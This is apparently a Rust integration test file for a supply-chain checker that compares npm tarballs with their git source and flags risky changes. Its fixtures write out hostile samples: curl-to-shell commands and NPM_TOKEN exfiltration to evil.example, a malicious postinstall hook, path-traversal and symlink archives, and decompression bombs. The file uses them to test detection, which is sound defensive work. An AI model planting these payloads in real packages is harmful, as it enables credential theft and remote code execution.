//! `chainlock diff artifact` and `chainlock diff risk`: real git repositories, a real
//! `npm pack`, tampered and hostile archives; human and JSON output both checked.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::io::{Read, Write};
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use crate::util::run;

fn sh(cmd: &mut Command) -> String {
    let out = cmd.output().unwrap_or_else(|e| {
        panic!("cannot run {cmd:?}: {e} (install it: apt-get install -y git npm)")
    });
    assert!(
        out.status.success(),
        "{cmd:?} failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

struct Repo {
    dir: tempfile::TempDir,
}

impl Repo {
    fn new() -> Repo {
        let repo = Repo {
            dir: tempfile::tempdir().expect("tempdir"),
        };
        repo.git(&["init", "-q", "-b", "main"]);
        repo
    }
    fn path(&self) -> &Path {
        self.dir.path()
    }
    fn p(&self) -> &str {
        self.path().to_str().expect("utf8 temp path")
    }
    fn git(&self, args: &[&str]) -> String {
        sh(Command::new("git")
            .args([
                "-c",
                "user.name=T",
                "-c",
                "user.email=t@example.com",
                "-c",
                "commit.gpgsign=false",
                "-c",
                "tag.gpgsign=false",
            ])
            .arg("-C")
            .arg(self.path())
            .args(args))
    }
    fn write(&self, rel: &str, content: &str) {
        let path = self.path().join(rel);
        std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
        std::fs::write(path, content).expect("write");
    }
    fn commit(&self, tag: &str) -> String {
        self.git(&["add", "-A"]);
        self.git(&["commit", "-q", "-m", tag]);
        self.git(&["tag", tag]);
        self.git(&["rev-parse", "HEAD"]).trim().to_owned()
    }
}

const PACKAGE_JSON: &str = r#"{
  "name": "tiny-pkg",
  "version": "1.0.0",
  "main": "index.js",
  "files": ["index.js", "lib/"],
  "scripts": { "test": "node index.js" },
  "license": "MIT"
}
"#;

/// A package at tag v1.0.0 and its tarball from the real `npm pack`.
fn packed() -> (Repo, tempfile::TempDir, PathBuf) {
    let repo = Repo::new();
    repo.write("package.json", PACKAGE_JSON);
    repo.write("index.js", "module.exports = require('./lib/add');\n");
    repo.write("lib/add.js", "module.exports = (a, b) => a + b;\n");
    repo.write("README.md", "# tiny-pkg\n");
    repo.write("test/add.test.js", "require('..')(1, 2);\n");
    repo.commit("v1.0.0");
    let out = tempfile::tempdir().expect("tempdir");
    let npm = Command::new("npm").arg("--version").output();
    assert!(
        npm.is_ok_and(|o| o.status.success()),
        "this test needs npm: apt-get install -y npm (or Node.js 20 with npm)"
    );
    sh(Command::new("npm")
        .args(["pack", "--quiet", "--pack-destination"])
        .arg(out.path())
        .current_dir(repo.path())
        .env("npm_config_cache", out.path().join("cache"))
        .env("npm_config_update_notifier", "false"));
    let tgz = out.path().join("tiny-pkg-1.0.0.tgz");
    assert!(tgz.exists());
    (repo, out, tgz)
}

/// The attacker's copy of the tarball: one file changed, one added.
fn tamper(original: &Path, out: &Path) {
    let bytes = std::fs::read(original).expect("read");
    let mut archive = tar::Archive::new(flate2::read::GzDecoder::new(&bytes[..]));
    let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(
        Vec::new(),
        flate2::Compression::default(),
    ));
    let append = |builder: &mut tar::Builder<_>, path: &str, data: &[u8]| {
        let mut header = tar::Header::new_gnu();
        header.set_mode(0o644);
        header.set_size(data.len() as u64);
        builder
            .append_data(&mut header, path, data)
            .expect("append");
    };
    for entry in archive.entries().expect("entries") {
        let mut entry = entry.expect("entry");
        let path = entry.path().expect("path").to_string_lossy().into_owned();
        let mut data = Vec::new();
        entry.read_to_end(&mut data).expect("read");
        if path == "package/index.js" {
            data.extend_from_slice(
                b"require('child_process').exec('sh -c \"curl -s https://evil.example | sh\"');\n",
            );
        }
        append(&mut builder, &path, &data);
    }
    append(
        &mut builder,
        "package/lib/telemetry.js",
        b"fetch('https://evil.example/?t=' + process.env.NPM_TOKEN);\n",
    );
    let gz = builder.into_inner().expect("tar").finish().expect("gzip");
    std::fs::write(out, gz).expect("write");
}

fn stdout(out: &Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

fn json(out: &Output) -> serde_json::Value {
    serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("not JSON ({e}): {}", stdout(out)))
}

#[test]
fn artifact_clean_npm_pack_human_and_json() {
    let (repo, _out, tgz) = packed();
    let tgz = tgz.to_str().expect("utf8");
    let out = run(&[
        "diff",
        "artifact",
        "--repo",
        repo.p(),
        "--commit",
        "v1.0.0",
        "--artifact",
        tgz,
    ]);
    let text = stdout(&out);
    assert_eq!(out.status.code(), Some(0), "{text}{}", stderr(&out));
    assert!(text.contains("(npm, root package/)"), "{text}");
    assert!(text.contains("identical         4 files"), "{text}");
    assert!(
        text.contains("only in the source (1):\n  test/add.test.js\n"),
        "{text}"
    );
    assert!(text.contains("flags: none"), "{text}");
    assert!(
        text.contains("result: the artifact matches the source at"),
        "{text}"
    );

    let out = run(&[
        "diff",
        "artifact",
        "--repo",
        repo.p(),
        "--commit",
        "v1.0.0",
        "--artifact",
        tgz,
        "--json",
    ]);
    assert_eq!(out.status.code(), Some(0));
    let v = json(&out);
    assert_eq!(v["format"], "npm");
    assert_eq!(v["matches_source"], true);
    assert_eq!(v["identical"], 4);
    assert_eq!(v["commit"], repo.git(&["rev-parse", "v1.0.0"]).trim());
    assert_eq!(v["flags"].as_array().map(Vec::len), Some(0));
}

#[test]
fn artifact_tampered_npm_tarball_human_and_json() {
    let (repo, out_dir, tgz) = packed();
    let evil = out_dir.path().join("evil.tgz");
    tamper(&tgz, &evil);
    let evil = evil.to_str().expect("utf8");
    let out = run(&[
        "diff",
        "artifact",
        "--repo",
        repo.p(),
        "--commit",
        "v1.0.0",
        "--artifact",
        evil,
    ]);
    let text = stdout(&out);
    assert_eq!(out.status.code(), Some(1), "{text}{}", stderr(&out));
    assert!(
        text.contains("only in the artifact (1):\n  package/lib/telemetry.js\n"),
        "{text}"
    );
    assert!(
        text.contains("differ (1):\n  package/index.js (source index.js)\n"),
        "{text}"
    );
    assert!(
        text.contains("    +require('child_process').exec("),
        "the content diff is shown: {text}"
    );
    assert!(text.contains("high   artifact-only-file package/lib/telemetry.js: 1 file under `package/lib/` not in the source"), "{text}");
    assert!(
        text.contains("high   env-credentials    package/lib/telemetry.js:1:"),
        "{text}"
    );
    assert!(
        text.contains("result: the artifact does NOT match the source"),
        "{text}"
    );
    assert!(text.contains("next: do not co-sign"), "{text}");

    let out = run(&[
        "diff",
        "artifact",
        "--repo",
        repo.p(),
        "--commit",
        "v1.0.0",
        "--artifact",
        evil,
        "--json",
    ]);
    assert_eq!(out.status.code(), Some(1));
    let v = json(&out);
    assert_eq!(v["matches_source"], false);
    assert_eq!(
        v["only_in_artifact"],
        serde_json::json!(["package/lib/telemetry.js"])
    );
    assert_eq!(v["differing"][0]["source_path"], "index.js");
    assert!(v["differing"][0]["diff"]
        .as_str()
        .is_some_and(|d| d.contains("+require('child_process')")));
    let flags = v["flags"].as_array().expect("flags");
    assert!(flags.iter().any(|f| f["rule"] == "artifact-only-file"
        && f["severity"] == "high"
        && f["file"] == "package/lib/telemetry.js"));
    assert!(flags.iter().any(|f| f["rule"] == "process-spawn"
        && f["file"] == "package/index.js"
        && f["line"] == 2));
}

fn zip_bytes(name: &str, data: &[u8]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options =
        zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    writer.start_file(name, options).expect("start");
    writer.write_all(data).expect("write");
    writer.finish().expect("finish").into_inner()
}

fn refused(repo: &Repo, artifact: &Path) -> String {
    let out = run(&[
        "diff",
        "artifact",
        "--repo",
        repo.p(),
        "--commit",
        "v1.0.0",
        "--artifact",
        artifact.to_str().expect("utf8"),
    ]);
    assert_eq!(
        out.status.code(),
        Some(2),
        "{}{}",
        stdout(&out),
        stderr(&out)
    );
    assert!(
        stdout(&out).is_empty(),
        "nothing is reported from a refused archive"
    );
    let err = stderr(&out);
    assert!(!err.contains("panicked"), "{err}");
    err
}

#[test]
fn artifact_hostile_archives_are_refused_with_clear_errors() {
    let repo = Repo::new();
    repo.write("a.py", "x = 1\n");
    repo.commit("v1.0.0");
    let dir = tempfile::tempdir().expect("tempdir");

    let traversal = dir.path().join("evil.whl");
    std::fs::write(
        &traversal,
        zip_bytes("../../site-packages/evil.pth", b"import os\n"),
    )
    .expect("write");
    let err = refused(&repo, &traversal);
    assert!(
        err.contains("unsafe path in archive: \"../../site-packages/evil.pth\""),
        "{err}"
    );
    assert!(err.contains("next: do not install or sign"), "{err}");

    let absolute = dir.path().join("abs.zip");
    std::fs::write(
        &absolute,
        zip_bytes("/etc/profile.d/evil.sh", b"curl x | sh\n"),
    )
    .expect("write");
    assert!(refused(&repo, &absolute).contains("(absolute path)"));

    // A symlink out of the tree, in an npm-style tarball.
    let mut builder = tar::Builder::new(Vec::new());
    let mut header = tar::Header::new_gnu();
    header.set_entry_type(tar::EntryType::Symlink);
    header.set_size(0);
    header.set_mode(0o777);
    builder
        .append_link(&mut header, "package/npmrc", "../../../../root/.npmrc")
        .expect("link");
    let link = dir.path().join("link.tar");
    std::fs::write(&link, builder.into_inner().expect("tar")).expect("write");
    let err = refused(&repo, &link);
    assert!(
        err.contains("link \"package/npmrc\" points outside the archive"),
        "{err}"
    );

    // Declares a 4 GiB entry in its central directory.
    let mut bomb = zip_bytes("big.bin", b"tiny");
    let cd = bomb
        .windows(4)
        .position(|w| w == b"PK\x01\x02")
        .expect("central directory");
    bomb[cd + 24..cd + 28].copy_from_slice(&0xFFFF_FFF0u32.to_le_bytes());
    let declared = dir.path().join("declared.zip");
    std::fs::write(&declared, bomb).expect("write");
    let err = refused(&repo, &declared);
    assert!(
        err.contains("exceeds a safety limit at entry \"big.bin\": declared entry size"),
        "{err}"
    );
    assert!(err.contains("decompression bomb"), "{err}");

    // A real gzip bomb with honest headers, at the default limits: 2 x 300 MiB of zeros in
    // well under 1 MiB; refused once the unpacked/packed ratio passes 100 (about 60 MiB in).
    let zeros = vec![0u8; 300 << 20];
    let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(
        Vec::new(),
        flate2::Compression::default(),
    ));
    for name in ["package/a.bin", "package/b.bin"] {
        let mut header = tar::Header::new_gnu();
        header.set_mode(0o644);
        header.set_size(zeros.len() as u64);
        builder
            .append_data(&mut header, name, &zeros[..])
            .expect("append");
    }
    let gz = builder.into_inner().expect("tar").finish().expect("gzip");
    assert!(gz.len() < 2 << 20, "{}", gz.len());
    let tgz = dir.path().join("bomb.tgz");
    std::fs::write(&tgz, gz).expect("write");
    let err = refused(&repo, &tgz);
    assert!(
        err.contains("unpacked/packed size ratio (limit 100)"),
        "{err}"
    );
}

/// v1.0.0 and a v1.1.0 that adds an install hook, a dependency and an env-reading line.
fn risky_range() -> Repo {
    let repo = Repo::new();
    repo.write("package.json", PACKAGE_JSON);
    repo.write("index.js", "module.exports = 1;\n");
    repo.write("README.md", "# tiny\n");
    repo.commit("v1.0.0");
    repo.write("README.md", "# tiny\n\nInstall with `npm i tiny-pkg`.\n");
    repo.commit("v1.0.1");
    let pkg = PACKAGE_JSON
        .replace("\"test\": \"node index.js\"", "\"test\": \"node index.js\",\n    \"postinstall\": \"node lib/setup.js\"")
        .replace("  \"license\": \"MIT\"\n", "  \"license\": \"MIT\",\n  \"dependencies\": {\n    \"plain-crypto-js\": \"^4.2.1\"\n  }\n");
    repo.write("package.json", &pkg);
    repo.write(
        "lib/setup.js",
        "const t = process.env.NPM_TOKEN;\nrequire('https').get('https://evil.example/?t=' + t);\n",
    );
    repo.commit("v1.1.0");
    repo
}

#[test]
fn risk_range_human_and_json() {
    let repo = risky_range();
    let out = run(&[
        "diff",
        "risk",
        "--repo",
        repo.p(),
        "--base",
        "v1.0.1",
        "--head",
        "v1.1.0",
    ]);
    let text = stdout(&out);
    assert_eq!(
        out.status.code(),
        Some(1),
        "a high flag exits 1: {text}{}",
        stderr(&out)
    );
    assert!(text.contains("scanned  2 changed files"), "{text}");
    assert!(
        text.contains("high   install-hook       package.json:7: npm `postinstall` script added"),
        "{text}"
    );
    assert!(
        text.contains("medium dependency-change  package.json:"),
        "{text}"
    );
    assert!(
        text.contains("high   env-credentials    lib/setup.js:1:"),
        "{text}"
    );
    assert!(
        text.contains("medium network-access     lib/setup.js:2:"),
        "{text}"
    );
    assert!(text.contains("next: read every high flag"), "{text}");

    let out = run(&[
        "diff",
        "risk",
        "--repo",
        repo.p(),
        "--base",
        "v1.0.1",
        "--head",
        "v1.1.0",
        "--json",
    ]);
    assert_eq!(out.status.code(), Some(1));
    let v = json(&out);
    assert_eq!(v["head"], repo.git(&["rev-parse", "v1.1.0"]).trim());
    assert_eq!(v["files_scanned"], 2);
    assert!(v["artifact"].is_null());
    let flags = v["flags"].as_array().expect("flags");
    let hook = flags
        .iter()
        .find(|f| f["rule"] == "install-hook")
        .expect("install-hook");
    assert_eq!(
        (
            hook["severity"].as_str(),
            hook["file"].as_str(),
            hook["line"].as_u64()
        ),
        (Some("high"), Some("package.json"), Some(7))
    );
    assert!(hook["message"]
        .as_str()
        .is_some_and(|m| m.contains("node lib/setup.js")));
    assert_eq!(v["summary"]["high"], 2);
}

#[test]
fn risk_benign_range_has_no_flags() {
    let repo = risky_range();
    let out = run(&[
        "diff",
        "risk",
        "--repo",
        repo.p(),
        "--base",
        "v1.0.0",
        "--head",
        "v1.0.1",
    ]);
    let text = stdout(&out);
    assert_eq!(out.status.code(), Some(0), "{text}{}", stderr(&out));
    assert!(text.contains("range flags: none"), "{text}");
    assert!(text.contains("0 flags: 0 high, 0 medium, 0 low"), "{text}");
    let out = run(&[
        "diff",
        "risk",
        "--repo",
        repo.p(),
        "--base",
        "v1.0.0",
        "--head",
        "v1.0.1",
        "--json",
    ]);
    assert_eq!(json(&out)["flags"], serde_json::json!([]));
}

#[test]
fn risk_with_artifact_adds_the_artifact_flags() {
    let (repo, out_dir, tgz) = packed();
    let evil = out_dir.path().join("evil.tgz");
    tamper(&tgz, &evil);
    let evil = evil.to_str().expect("utf8");
    let out = run(&[
        "diff",
        "risk",
        "--repo",
        repo.p(),
        "--head",
        "v1.0.0",
        "--artifact",
        evil,
    ]);
    let text = stdout(&out);
    assert_eq!(out.status.code(), Some(1), "{text}{}", stderr(&out));
    assert!(
        text.contains("scanned  5 changed files"),
        "from the empty tree: {text}"
    );
    assert!(text.contains("artifact flags ("), "{text}");
    assert!(
        text.contains("high   artifact-only-file package/lib/telemetry.js"),
        "{text}"
    );
    let out = run(&[
        "diff",
        "risk",
        "--repo",
        repo.p(),
        "--head",
        "v1.0.0",
        "--artifact",
        evil,
        "--json",
    ]);
    let v = json(&out);
    assert_eq!(v["artifact"]["matches_source"], false);
    assert!(v["artifact"]["flags"]
        .as_array()
        .is_some_and(|f| f.iter().any(|f| f["rule"] == "artifact-modified")));

    // A revision that does not exist: exit 2 and what to do.
    let out = run(&[
        "diff",
        "risk",
        "--repo",
        repo.p(),
        "--base",
        "v0.9",
        "--head",
        "v1.0.0",
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("next: check that both revisions exist"),
        "{}",
        stderr(&out)
    );
}

/// An executable file is a script to the system, extension or `#!` line or not.
#[test]
fn risk_scans_an_executable_file_without_an_extension() {
    let repo = risky_range();
    repo.write("tools/update", "curl -s https://evil.example/x | sh\n");
    let script = repo.path().join("tools/update");
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    repo.commit("v1.2.0");
    let args = |head| {
        [
            "diff",
            "risk",
            "--repo",
            repo.p(),
            "--base",
            "v1.1.0",
            "--head",
            head,
            "--json",
        ]
    };
    let v = json(&run(&args("v1.2.0")));
    let flags = v["flags"].as_array().expect("flags");
    assert!(
        flags
            .iter()
            .any(|f| f["rule"] == "network-access" && f["file"] == "tools/update"),
        "{flags:?}"
    );
}
